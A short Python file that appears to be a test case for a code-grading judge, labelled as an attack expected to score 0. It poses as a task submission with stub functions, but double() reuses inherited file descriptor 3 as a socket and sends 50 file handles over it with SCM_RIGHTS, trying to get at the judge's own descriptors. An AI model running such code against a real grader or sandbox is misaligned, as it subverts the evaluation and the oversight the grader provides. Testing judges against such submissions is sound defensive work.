# Attack: sends open files along the line and asks for the judge's.
# score: 0
# ruff: noqa

import array
import os
import socket


def double(x):
    line = socket.socket(fileno=os.dup(3))
    handles = [os.open(os.devnull, os.O_RDONLY) for _ in range(50)]
    line.sendmsg([b"\0" * 8], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", handles))])
    return x


def minimize(start, learning_rate=0.1, num_iterations=10):
    return None


def make_model():
    return None
